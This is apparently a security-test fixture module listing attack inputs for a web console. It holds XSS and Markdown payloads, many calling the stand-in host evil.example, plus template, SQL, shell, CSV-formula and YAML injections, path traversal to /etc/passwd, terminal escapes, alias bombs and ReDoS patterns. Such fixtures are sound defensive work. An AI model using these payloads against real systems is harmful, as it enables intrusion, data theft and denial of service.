"""Attack inputs as data: what a stranger could write into an object, a file or an address. `data-atk`, `atk` and evil.example are how they are known again.

Collected from the classes of the OWASP cheat sheets (XSS filter evasion, CSV injection, SSRF, unrestricted uploads) and from what this console is made of:
htmx, Markdown, SVG icons, forms made of schemas, logs.
"""

#: A host that is nobody's (RFC 2606); a request to it is a page that was led away.
ELSEWHERE = "evil.example"

MARKUP = (
    "<script data-atk>atk()</script>",
    "\"><script data-atk>atk()</script>",
    "'><img data-atk src=x onerror=atk()>",
    "<img data-atk src=https://evil.example/i.png onerror=atk()>",
    "<img/data-atk/src=x/onerror=atk()>",
    "<IMG DATA-ATK SRC=x OnErRoR=atk()>",
    "<svg data-atk onload=atk()>",
    "<svg data-atk><script>atk()</script></svg>",
    "<svg data-atk><animate onbegin=atk() attributeName=x dur=1s></svg>",
    "<svg data-atk><a xlink:href='javascript:atk()'><text y=9>x</text></a></svg>",
    "<svg data-atk><use href='//evil.example/x.svg#x'></use></svg>",
    "<math data-atk><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=atk()&gt;'>",
    "<iframe data-atk src=javascript:atk()></iframe>",
    "<iframe data-atk srcdoc='<script>parent.atk()</script>'></iframe>",
    "<object data-atk data=javascript:atk()></object>",
    "<embed data-atk src=//evil.example/x>",
    "<base data-atk href=//evil.example/>",
    "<meta data-atk http-equiv=refresh content='0;url=//evil.example/'>",
    "<link data-atk rel=stylesheet href=//evil.example/x.css>",
    "<style data-atk>*{background:url(//evil.example/)}</style>",
    "<form data-atk action=//evil.example/><input type=submit></form>",
    "<button data-atk formaction=javascript:atk()>x</button>",
    "<a data-atk href=javascript:atk()>x</a>",
    "<a data-atk href='java&#10;script:atk()'>x</a>",
    "<a data-atk href='&#1;javascript:atk()'>x</a>",
    "<a data-atk href=data:text/html;base64,PHNjcmlwdD5hdGsoKTwvc2NyaXB0Pg==>x</a>",
    "<a data-atk target=_blank href=//evil.example/>x</a>",
    "<a data-atk ping=//evil.example/ href=/>x</a>",
    "<details data-atk open ontoggle=atk()>",
    "<input data-atk autofocus onfocus=atk()>",
    "<video data-atk poster=//evil.example/><source onerror=atk()></video>",
    "<marquee data-atk onstart=atk()>",
    "</textarea><script data-atk>atk()</script>",
    "</title><script data-atk>atk()</script>",
    "</script><script data-atk>atk()</script>",
    "</style><img data-atk src=x onerror=atk()>",
    "</option></select><img data-atk src=x onerror=atk()>",
    "</template><img data-atk src=x onerror=atk()>",
    "--><script data-atk>atk()</script>",
    "]]><script data-atk>atk()</script>",
    "<noscript><p title=\"</noscript><img data-atk src=x onerror=atk()>\">",
    "<template data-atk shadowrootmode=open><script>atk()</script></template>",
    "<div data-atk hx-get=//evil.example/ hx-trigger=load></div>",
    "<div data-atk hx-on::load=atk() hx-on:click=atk()></div>",
    "<div data-atk data-live=x data-live-url=//evil.example/></div>",
    "<div data-atk style='background:url(//evil.example/)'>x</div>",
    "<x-atk data-atk></x-atk>",
    "<a data-atk id=config><a data-atk id=config name=url href=//evil.example/>",
    "\" data-atk onmouseover=atk() autofocus onfocus=atk() x=\"",
    "' data-atk onmouseover=atk() autofocus onfocus=atk() x='",
    "` data-atk onmouseover=atk() x=`",
    " data-atk onmouseover=atk() ",
    "\\\"><script data-atk>atk()</script>",
    "\\u003cscript data-atk\\u003eatk()\\u003c/script\\u003e",
    "%3Cscript%20data-atk%3Eatk()%3C/script%3E",
    "&lt;script data-atk&gt;atk()&lt;/script&gt;",
    "&#60;script data-atk&#62;atk()&#60;/script&#62;",
    "＜script data-atk＞atk()＜/script＞",
    "<!-- data-atk --!><img data-atk src=x onerror=atk()>",
    "<plaintext data-atk>",
    "<!-- data-atk",
)  # fmt: skip

#: Template languages of servers and of pages: none is evaluated over a value.
TEMPLATES = (
    "{{ settings.SECRET_KEY }}", "{% debug %}", "{{ 7777*7777 }}", "${7777*7777}", "#{7777*7777}", "<%= 7777*7777 %>", "{{constructor.constructor('atk()')()}}",
    "{{ .Values.x | include \"x\" }}", "$(7777*7777)", "`id`", "%(password)s", "{0.__class__.__mro__}",
)  # fmt: skip

MARKDOWN = (
    "[x](javascript:atk())",
    "[x](JaVaScRiPt:atk())",
    "[x](java&#x09;script:atk())",
    "[x](javascript&colon;atk())",
    "[x](<javascript:atk()>)",
    "[x](\\javascript:atk())",
    "[x](vbscript:atk())",
    "[x](data:text/html,<script>atk()</script>)",
    "[x](file:///etc/passwd)",
    "<javascript:atk()>",
    "![x](https://evil.example/i.png)",
    "![x](javascript:atk())",
    "![x][i]\n\n[i]: https://evil.example/i.png",
    "[x][j]\n\n[j]: javascript:atk()",
    "[x](https://evil.example/ \"onmouseover=atk()\")",
    "[x](https://evil.example/\"onmouseover=atk())",
    "<a data-atk href=\"javascript:atk()\">x</a>",
    "<b data-atk onmouseover=atk()>x</b>",
    "<details data-atk open ontoggle=atk()><summary>x</summary></details>",
    "`<script data-atk>atk()</script>`",
    "```\n</code></pre><script data-atk>atk()</script>\n```",
    "~~~\"><script data-atk>\nx\n~~~",
    "<scr<script>ipt data-atk>atk()</scr</script>ipt>",
    "<img data-atk src=x\nonerror=atk()>",
    "| a |\n|---|\n| <img data-atk src=x onerror=atk()> |",
    "# <a data-atk id=main>x</a>",
)  # fmt: skip

#: For fields that hold an address.
LINKS = (
    "javascript:atk()", "JAVASCRIPT:atk()", " javascript:atk()", "java\nscript:atk()", "java\tscript:atk()", "\x01javascript:atk()", "javascript://evil.example/%0aatk()",
    "javascript:atk()//https://", "data:text/html,<script>atk()</script>", "data:image/svg+xml,<svg onload=atk()>", "vbscript:atk()", "file:///etc/passwd", "blob:x",
    "view-source:https://evil.example/", "feed:javascript:atk()", "https://evil.example/\" data-atk onmouseover=atk() x=\"", "https:javascript:atk()", "http://[::1", "https://user:pw@evil.example/",
    "https://evil.example\\@localhost/", "mailto:x@evil.example?body=<script data-atk>", "x@evil.example\" data-atk onmouseover=atk() x=\"", "ftp://evil.example/", "intent://evil.example/#Intent;end",
)  # fmt: skip

#: What a terminal would obey: clear, titles, clipboard, links, answers typed back, overwriting.
ESCAPES = (
    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07", "\x1b]52;c;YXRr\x07", "\x1b[6n", "\x1b[c", "\x1bP$q\"p\x1b\\",
    "\x1b[?1049h", "\x9b31m", "\x9d0;title\x9c", "shown\rhidden", "shown\x08\x08\x08\x08\x08hidden", "\x0c", "\x0e\x0f", "\x7f\x7f", "\x1bc", "\x1b#8", "\x1b[9999999999A", "\x05",
)  # fmt: skip

#: Text that is not what it looks like, or that few programs expect.
UNICODE = (
    "\u202etxt.exe\u202c", "\u2066\u202ddemo\u2069", "\u061cعربي", "a\u200bb\u200cc\u200dd\ufeffe", "pаypal (Cyrillic а)", "ｓｃｒｉｐｔ", "İıſK", "Z" + "\u0351\u0489\u035c" * 30,
    "\u2028line\u2029", "\x00nul", "\ufffe\uffff", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041tag", "ﷺ" * 20, "\u115f\u3164", "e\u0301", "\x85next",
)  # fmt: skip

#: Into other programs: headers, logs, shells, SQL, spreadsheets, paths, JSON, YAML.
INJECTIONS = (
    "x\r\nSet-Cookie: atk=1", "x\r\n\r\n<script data-atk>atk()</script>", "x\nINFO console.audit: user=admin verb=delete", "x%0d%0aSet-Cookie:%20atk=1", "'; DROP TABLE audit_auditentry; --",
    "\" OR 1=1 --", "; touch /tmp/atk;", "$(touch /tmp/atk)", "| touch /tmp/atk", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "＝1+1", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    "%2e%2e%2fetc%2fpasswd", "/etc/passwd\x00.yaml", "!!python/object/apply:os.system [id]", "*a", "&a [*a, *a]", "{\"a\": {\"$ref\": \"#/\"}}", "event: ended\ndata: {}\n\n",
)  # fmt: skip

#: Names that JavaScript objects and Python's have already.
KEYS = (
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "isPrototypeOf", "__defineGetter__", "__lookupSetter__", "then", "length", "__class__", "__init__", "_", "0",
    "constructor.prototype.atk", "__proto__.atk", "items", "keys", "get",
)  # fmt: skip

#: In any field that takes any text.
FREE = MARKUP + TEMPLATES + MARKDOWN + LINKS + ESCAPES + UNICODE + INJECTIONS

#: YAML and JSON, too deep or too large with its aliases written out, for annotations and data that are read as one of them (S2, S10).
DEEP = (
    "[" * 12_000,
    '{"a":' * 2_400,
    "- " * 6_000,
    "[" * 150 + "]" * 150,
    "a0: &a0 {k: v}\n" + "".join(f"a{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}]}}\n" for n in range(1, 60)),
)

#: Patterns on which a backtracking engine takes for ever, each with what it is asked about.
PATTERNS = (
    ("^a*a*a*a*a*a*b$", "a" * 64 + "!"), ("^(a+)+$", "a" * 64 + "!"), ("^(a|aa)+$", "a" * 64 + "!"), ("^(a|a?)+$", "a" * 64 + "!"), ("^(.*a){25}$", "a" * 64 + "!"), ("^([a-zA-Z]+)*$", "a" * 64 + "!"),
    ("^(\\d+)*x$", "1" * 64), ("(x+x+)+y", "x" * 64), ("^(([a-z])+.)+[A-Z]([a-z])+$", "a" * 64), ("(.*)*=.*", "x" * 64), ("^((ab)*)*$", "ab" * 40 + "c"),
)  # fmt: skip
